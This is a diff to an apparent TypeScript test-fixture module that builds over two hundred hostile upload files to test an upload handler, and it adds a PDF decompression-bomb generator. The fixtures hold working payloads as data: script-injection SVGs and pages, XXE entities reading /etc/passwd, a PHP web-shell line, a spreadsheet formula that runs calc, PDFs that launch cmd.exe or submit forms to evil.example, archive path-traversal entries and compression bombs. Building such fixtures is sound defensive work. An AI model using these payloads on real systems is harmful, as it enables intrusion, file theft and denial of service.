@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib'
+import { constants, deflateRawSync, deflateSync } from 'node:zlib'
 import { gzipBomb, heicOf, jpegOf, pdfOf, pngOf, streamOf, zeros, zipOf } from './containers.ts'
 
 /** A file that somebody uploads to do harm. */
@@ -21,7 +21,7 @@ const laughs = (depth: number): string =>
     (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
   ).join('')}]><z>&l${depth};</z>`
 const FORMULAS = [
-  '=cmd|\'/c calc\'!A1',
+  "=cmd|'/c calc'!A1",
   '+1+1',
   '-2+3',
   '@SUM(1)',
@@ -55,21 +55,41 @@ const asfLoop = (): Buffer =>
 
 /** What is in a file, and the ends of names under which it is uploaded. */
 const active = (): [what: string, bytes: Buffer, ends: string[]][] => [
-  ['an SVG with a script', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), ['svg', 'png', 'pdf']],
-  ['an SVG with a handler', Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>'), ['svg', 'jpg']],
-  ['an SVG with HTML', Buffer.from(`<svg><foreignObject>${SCRIPT}</foreignObject></svg>`), ['svg', 'heic']],
+  [
+    'an SVG with a script',
+    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
+    ['svg', 'png', 'pdf'],
+  ],
+  [
+    'an SVG with a handler',
+    Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>'),
+    ['svg', 'jpg'],
+  ],
+  [
+    'an SVG with HTML',
+    Buffer.from(`<svg><foreignObject>${SCRIPT}</foreignObject></svg>`),
+    ['svg', 'heic'],
+  ],
   ['an SVG with an outer entity', Buffer.from(`<?xml version="1.0"?>${XXE}<svg/>`), ['svg']],
   ['a page', Buffer.from(`<!doctype html>${SCRIPT}`), ['html', 'pdf', 'png', 'jpg', 'heic']],
   ['a page after spaces', Buffer.from(`${' '.repeat(2000)}<html>${SCRIPT}`), ['htm', 'pdf']],
   ['a page in UTF-16', Buffer.from(`\ufeff<html>${SCRIPT}`, 'utf16le'), ['html', 'pdf']],
   ['a page in UTF-7', Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), ['html', 'pdf']],
-  ['an XHTML page', Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`), ['xhtml', 'pdf']],
+  [
+    'an XHTML page',
+    Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
+    ['xhtml', 'pdf'],
+  ],
   ['a script', Buffer.from('fetch("/api/personal/user")'), ['js', 'mjs', 'pdf']],
   ['a stylesheet with an address', Buffer.from('a{background:url(//evil.example)}'), ['css']],
   ['a server file of PHP', Buffer.from('<?php system($_GET[0]);'), ['php', 'phtml', 'pdf']],
   ['a server file of Java', Buffer.from('<% Runtime.getRuntime(); %>'), ['jsp']],
   ['settings of Apache', Buffer.from('AddType text/html .pdf'), ['htaccess', 'pdf']],
-  ['an e-mail with a page', Buffer.from(`Content-Type: text/html\r\n\r\n${SCRIPT}`), ['eml', 'mhtml', 'pdf']],
+  [
+    'an e-mail with a page',
+    Buffer.from(`Content-Type: text/html\r\n\r\n${SCRIPT}`),
+    ['eml', 'mhtml', 'pdf'],
+  ],
   ['a calendar', Buffer.from(`BEGIN:VCALENDAR\nSUMMARY:${SCRIPT}\nEND:VCALENDAR`), ['ics']],
 ]
 const programs = (): [string, Buffer, string[]][] => [
@@ -83,78 +103,245 @@ const programs = (): [string, Buffer, string[]][] => [
   ['WebAssembly', latin('\0asm\u0001\0\0\0'), ['wasm', 'png']],
   ['a shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), ['lnk', 'pdf']],
   ['Flash', latin(`FWS\u0009${'\0'.repeat(60)}`), ['swf', 'jpg']],
-  ['an old document with macros', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), ['doc', 'xls', 'pdf']],
+  [
+    'an old document with macros',
+    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
+    ['doc', 'xls', 'pdf'],
+  ],
   ['rich text', Buffer.from(String.raw`{\rtf1{\object\objocx}}`), ['rtf', 'pdf']],
   ['PostScript', Buffer.from('%!PS\n(/etc/passwd)(r)file'), ['eps', 'pdf']],
 ]
 const packed = (): [string, Buffer, string[]][] => [
   ['a sheet that unpacks to much', sheet('0'.repeat(8_000_000)), ['xlsx', 'pdf']],
-  ['a document that unpacks to much', zipOf([{ name: 'word/document.xml', content: zeros(8) }]), ['docx']],
+  [
+    'a document that unpacks to much',
+    zipOf([{ name: 'word/document.xml', content: zeros(8) }]),
+    ['docx'],
+  ],
   ['nested ZIP files', nested(3), ['zip', 'xlsx', 'pdf']],
   ['a sheet with an outer entity', sheet(XXE), ['xlsx', 'csv']],
   ['a sheet with entities of entities', sheet(laughs(9)), ['xlsx']],
-  ['a document with macros', zipOf([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]), ['docm', 'pdf']],
-  ['a ZIP with a way out', zipOf([{ name: '../../../../tmp/capstan-hostile', content: 'x' }]), ['zip', 'docx']],
-  ['a ZIP that states a wrong size', zipOf([{ name: 'a', content: 'x', claims: 0xffff_fff0 }]), ['zip', 'xlsx']],
+  [
+    'a document with macros',
+    zipOf([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]),
+    ['docm', 'pdf'],
+  ],
+  [
+    'a ZIP with a way out',
+    zipOf([{ name: '../../../../tmp/capstan-hostile', content: 'x' }]),
+    ['zip', 'docx'],
+  ],
+  [
+    'a ZIP that states a wrong size',
+    zipOf([{ name: 'a', content: 'x', claims: 0xffff_fff0 }]),
+    ['zip', 'xlsx'],
+  ],
   ['a gzip of zeros', gzipBomb(16), ['gz', 'svgz', 'pdf']],
-  ['a TAR with a way out', Buffer.concat([Buffer.from('../../tmp/capstan-hostile'.padEnd(257, '\0')), Buffer.from('ustar\u000000'), Buffer.alloc(600)]), ['tar', 'pdf']],
+  [
+    'a TAR with a way out',
+    Buffer.concat([
+      Buffer.from('../../tmp/capstan-hostile'.padEnd(257, '\0')),
+      Buffer.from('ustar\u000000'),
+      Buffer.alloc(600),
+    ]),
+    ['tar', 'pdf'],
+  ],
   ['seven-zip', Buffer.from('377abcaf271c0004', 'hex'), ['7z', 'pdf']],
   ['an endless ASF', asfLoop(), ['asf', 'wmv', 'pdf', 'png', 'heic']],
 ]
 const texts = (): [string, Buffer, string[]][] => [
   ['XML with an outer entity', Buffer.from(`<?xml version="1.0"?>${XXE}`), ['xml', 'csv', 'eml']],
-  ['XML with entities of entities', Buffer.from(`<?xml version="1.0"?>${laughs(9)}`), ['xml', 'csv']],
+  [
+    'XML with entities of entities',
+    Buffer.from(`<?xml version="1.0"?>${laughs(9)}`),
+    ['xml', 'csv'],
+  ],
   ['XML of great depth', Buffer.from('<a>'.repeat(50_000)), ['xml', 'csv']],
-  ['a list of OFAC with an entity', Buffer.from(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sdnList><publshInformation><Publish_Date>01/01/2026</Publish_Date></publshInformation><sdnEntry><uid>1</uid><lastName>&e;</lastName><sdnType>Entity</sdnType></sdnEntry></sdnList>`), ['xml']],
-  ['a bank statement with an entity', Buffer.from(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>&e;</Id></Stmt></BkToCstmrStmt></Document>`), ['xml']],
-  ['formulas', Buffer.from(`name,amount\n${FORMULAS.map((one) => `"${one.replaceAll('"', '""')}",1`).join('\n')}`), ['csv', 'txt', 'pdf']],
-  ['formulas in a statement', Buffer.from(`date,amount,reference,sender,sender_account,bank_reference\n${FORMULAS.map((one, n) => `2026-11-20,1.00,"${one.replaceAll('"', '""')}","${SCRIPT}",****1,B${n}`).join('\n')}`), ['csv']],
-  ['a list with scripts', Buffer.from(`1,"${SCRIPT}","individual","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- `), ['csv']],
+  [
+    'a list of OFAC with an entity',
+    Buffer.from(
+      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sdnList><publshInformation><Publish_Date>01/01/2026</Publish_Date></publshInformation><sdnEntry><uid>1</uid><lastName>&e;</lastName><sdnType>Entity</sdnType></sdnEntry></sdnList>`,
+    ),
+    ['xml'],
+  ],
+  [
+    'a bank statement with an entity',
+    Buffer.from(
+      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>&e;</Id></Stmt></BkToCstmrStmt></Document>`,
+    ),
+    ['xml'],
+  ],
+  [
+    'formulas',
+    Buffer.from(
+      `name,amount\n${FORMULAS.map((one) => `"${one.replaceAll('"', '""')}",1`).join('\n')}`,
+    ),
+    ['csv', 'txt', 'pdf'],
+  ],
+  [
+    'formulas in a statement',
+    Buffer.from(
+      `date,amount,reference,sender,sender_account,bank_reference\n${FORMULAS.map((one, n) => `2026-11-20,1.00,"${one.replaceAll('"', '""')}","${SCRIPT}",****1,B${n}`).join('\n')}`,
+    ),
+    ['csv'],
+  ],
+  [
+    'a list with scripts',
+    Buffer.from(`1,"${SCRIPT}","individual","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- `),
+    ['csv'],
+  ],
   ['CSV with an open quote', Buffer.from(`"${'a,\n'.repeat(20_000)}`), ['csv']],
-  ['an e-mail with a script', Buffer.from(`From: "${SCRIPT}" <a@b.example>\r\nSubject: ${SCRIPT}\r\nMessage-ID: <h@b.example>\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`), ['eml']],
-  ['an e-mail of many parts', Buffer.from(`From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(3000)}`), ['eml']],
-  ['an e-mail with a bad address', Buffer.from(`From: ${'"a@'.repeat(3000)}\r\nTo: a@b.example,c@d.example\r\n\r\nx`), ['eml']],
-  ['a NACHA file of long lines', Buffer.from(`101 ${'9'.repeat(90)}\n`.repeat(2000)), ['ach', 'txt']],
+  [
+    'an e-mail with a script',
+    Buffer.from(
+      `From: "${SCRIPT}" <a@b.example>\r\nSubject: ${SCRIPT}\r\nMessage-ID: <h@b.example>\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
+    ),
+    ['eml'],
+  ],
+  [
+    'an e-mail of many parts',
+    Buffer.from(
+      `From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(3000)}`,
+    ),
+    ['eml'],
+  ],
+  [
+    'an e-mail with a bad address',
+    Buffer.from(`From: ${'"a@'.repeat(3000)}\r\nTo: a@b.example,c@d.example\r\n\r\nx`),
+    ['eml'],
+  ],
+  [
+    'a NACHA file of long lines',
+    Buffer.from(`101 ${'9'.repeat(90)}\n`.repeat(2000)),
+    ['ach', 'txt'],
+  ],
   ['nothing', Buffer.alloc(0), ['pdf', 'csv', 'xml', 'eml', 'png']],
   ['one byte', Buffer.from('%'), ['pdf', 'csv', 'eml']],
   ['zeros', Buffer.alloc(5000), ['pdf', 'png', 'csv', 'eml']],
-  ['bytes of no text', Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 197) % 256)), ['pdf', 'jpg', 'csv', 'eml', 'xml']],
+  [
+    'bytes of no text',
+    Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 197) % 256)),
+    ['pdf', 'jpg', 'csv', 'eml', 'xml'],
+  ],
 ]
 const pdfs = (): [string, Buffer][] => [
-  ['a PDF with JavaScript', pdfOf({ root: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' })],
-  ['a PDF with JavaScript by name', pdfOf({ root: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>' })],
+  [
+    'a PDF with JavaScript',
+    pdfOf({ root: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+  ],
+  [
+    'a PDF with JavaScript by name',
+    pdfOf({ root: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>' }),
+  ],
   ['a PDF that starts a program', pdfOf({ root: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
-  ['a PDF that sends a form', pdfOf({ page: '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>' })],
-  ['a PDF that opens an address', pdfOf({ root: '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>' })],
-  ['a PDF with a file inside', pdfOf({ root: '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>', objects: [streamOf('/Type /EmbeddedFile', latin('MZ'))] })],
-  ['a PDF with a form of XML', pdfOf({ root: '/AcroForm << /XFA 4 0 R >>', objects: [streamOf('', Buffer.from(XXE))] })],
+  [
+    'a PDF that sends a form',
+    pdfOf({ page: '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>' }),
+  ],
+  [
+    'a PDF that opens an address',
+    pdfOf({ root: '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>' }),
+  ],
+  [
+    'a PDF with a file inside',
+    pdfOf({
+      root: '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>',
+      objects: [streamOf('/Type /EmbeddedFile', latin('MZ'))],
+    }),
+  ],
+  [
+    'a PDF with a form of XML',
+    pdfOf({ root: '/AcroForm << /XFA 4 0 R >>', objects: [streamOf('', Buffer.from(XXE))] }),
+  ],
   ['a PDF and a page', Buffer.from(`%PDF-1.7\n<html>${SCRIPT}</html>`)],
   ['a page and a PDF', pdfOf({ before: `<html>${SCRIPT}</html>\n` })],
   ['a PDF and a ZIP', pdfOf({ after: zipOf([{ name: 'index.html', content: SCRIPT }]) })],
   ['a PDF and a script', Buffer.from('%PDF-1.7=1;\n1 0 obj\n<<>>;alert(1)//')],
   ['a PDF and a program of Windows', pdfOf({ after: latin(`MZ${'\0'.repeat(400)}`) })],
-  ['a PDF whose pages lead to themselves', pdfOf({ kids: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' })],
-  ['a PDF that states a million pages', pdfOf({ kids: '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>' })],
-  ['a PDF whose page is one many times', pdfOf({ kids: `<< /Type /Pages /Kids [${'3 0 R '.repeat(3000)}] /Count 3000 >>` })],
+  [
+    'a PDF whose pages lead to themselves',
+    pdfOf({ kids: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
+  ],
+  [
+    'a PDF that states a million pages',
+    pdfOf({ kids: '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>' }),
+  ],
+  [
+    'a PDF whose page is one many times',
+    pdfOf({ kids: `<< /Type /Pages /Kids [${'3 0 R '.repeat(3000)}] /Count 3000 >>` }),
+  ],
   ['a PDF of great depth', pdfOf({ root: `/X ${'['.repeat(20_000)}${']'.repeat(20_000)}` })],
-  ['a PDF whose stream unpacks to much', pdfOf({ objects: [streamOf('/Filter /FlateDecode', deflateSync(zeros(32), { level: 9 }))] })],
-  ['a PDF whose objects unpack to much', pdfOf({ objects: [streamOf('/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode', deflateSync(zeros(64), { level: 9 }))] })],
-  ['a PDF whose table unpacks to much', pdfOf({ objects: [streamOf('/Type /XRef /Size 9 /W [1 2 1] /Filter /FlateDecode', deflateSync(zeros(64), { level: 9 }))] })],
+  [
+    'a PDF whose stream unpacks to much',
+    pdfOf({ objects: [streamOf('/Filter /FlateDecode', deflateSync(zeros(32), { level: 9 }))] }),
+  ],
+  [
+    'a PDF whose objects unpack to much',
+    pdfOf({
+      objects: [
+        streamOf(
+          '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode',
+          deflateSync(zeros(64), { level: 9 }),
+        ),
+      ],
+    }),
+  ],
+  [
+    'a PDF whose table unpacks to much',
+    pdfOf({
+      objects: [
+        streamOf(
+          '/Type /XRef /Size 9 /W [1 2 1] /Filter /FlateDecode',
+          deflateSync(zeros(64), { level: 9 }),
+        ),
+      ],
+    }),
+  ],
   ['a PDF whose table follows itself', pdfOf({ trailer: '/Prev 9' })],
-  ['a PDF that is locked', pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P -1 >>' })],
+  [
+    'a PDF that is locked',
+    pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P -1 >>' }),
+  ],
   ['a PDF without an end', pdfOf().subarray(0, 40)],
-  ['a PDF with a false length', pdfOf({ objects: ['<< /Length 99999999 >>\nstream\nx\nendstream'] })],
+  [
+    'a PDF with a false length',
+    pdfOf({ objects: ['<< /Length 99999999 >>\nstream\nx\nendstream'] }),
+  ],
   ['a PDF of nothing but its name', Buffer.from('%PDF-')],
 ]
 const pictures = (): [string, Buffer, string][] => [
-  ['a PNG of two thousand million pixels a side', pngOf({ width: 0x7fff_ffff, height: 0x7fff_ffff }), 'png'],
-  ['a PNG that unpacks to much', pngOf({ width: 60_000, height: 60_000, data: deflateSync(zeros(32), { level: 9 }) }), 'png'],
-  ['a small PNG that unpacks to much', pngOf({ data: deflateSync(zeros(32), { level: 9 }) }), 'png'],
+  [
+    'a PNG of two thousand million pixels a side',
+    pngOf({ width: 0x7fff_ffff, height: 0x7fff_ffff }),
+    'png',
+  ],
+  [
+    'a PNG that unpacks to much',
+    pngOf({ width: 60_000, height: 60_000, data: deflateSync(zeros(32), { level: 9 }) }),
+    'png',
+  ],
+  [
+    'a small PNG that unpacks to much',
+    pngOf({ data: deflateSync(zeros(32), { level: 9 }) }),
+    'png',
+  ],
   ['a PNG without a size', pngOf({ width: 0, height: 0 }), 'png'],
   ['a PNG with a false sum', pngOf({ spoiled: true }), 'png'],
   ['a PNG with a page in its text', pngOf({ before: [['tEXt', `Comment\0${SCRIPT}`]] }), 'png'],
-  ['a PNG with a profile that unpacks to much', pngOf({ before: [['iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(zeros(16), { level: 9 })])]] }), 'png'],
-  ['a PNG of a million frames', pngOf({ before: [['acTL', Buffer.from('000f424000000000', 'hex')]] }), 'png'],
+  [
+    'a PNG with a profile that unpacks to much',
+    pngOf({
+      before: [
+        ['iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(zeros(16), { level: 9 })])],
+      ],
+    }),
+    'png',
+  ],
+  [
+    'a PNG of a million frames',
+    pngOf({ before: [['acTL', Buffer.from('000f424000000000', 'hex')]] }),
+    'png',
+  ],
   ['a PNG and a page', pngOf({ after: `<html>${SCRIPT}</html>` }), 'png'],
   ['a PNG and a ZIP', pngOf({ after: zipOf([{ name: 'a.html', content: SCRIPT }]) }), 'png'],
   ['a PNG without its pixels', pngOf().subarray(0, 33), 'png'],
@@ -169,7 +356,11 @@ const pictures = (): [string, Buffer, string][] => [
   ['a HEIC without a length', heicOf({ size: 0 }), 'heic'],
   ['a HEIC of four gigabytes', heicOf({ size: 0xffff_ffff }), 'heic'],
   ['a HEIC and a page', heicOf({ after: `<html>${SCRIPT}</html>` }), 'heic'],
-  ['a HEIC whose boxes have no end', heicOf({ after: latin('\0\0\0\u0008meta'.repeat(4000)) }), 'heif'],
+  [
+    'a HEIC whose boxes have no end',
+    heicOf({ after: latin('\0\0\0\u0008meta'.repeat(4000)) }),
+    'heif',
+  ],
   ['a GIF and a script', latin('GIF89a=1;alert(1)//'), 'gif'],
   ['a GIF with the name of a PNG', latin('GIF89a\u0001\0\u0001\0\0\0\0'), 'png'],
   ['a BMP and a script', latin('BM=1;alert(1)//'), 'bmp'],
@@ -250,6 +441,20 @@ const types = [
   'multipart/form-data; boundary=x',
   'text/xml',
 ]
+
+/** A PDF of some megabytes whose stream of objects unpacks to a thousand times as much. */
+export function pdfBomb(gigabytes: number): HostileFile {
+  const piece = deflateRawSync(zeros(16), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
+  const many = Array.from({ length: gigabytes * 64 }, () => piece)
+  const objects = [
+    streamOf(
+      '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode',
+      Buffer.concat([Buffer.from('78da', 'hex'), ...many]),
+    ),
+  ]
+  const type = 'application/pdf'
+  return { what: 'a bomb', name: 'bomb.pdf', type, encoded: false, bytes: pdfOf({ objects }) }
+}
 
 /** Over two hundred hostile files: contents under their own and under allowed names, and names of allowed contents. */
 export function hostileFiles(): HostileFile[] {
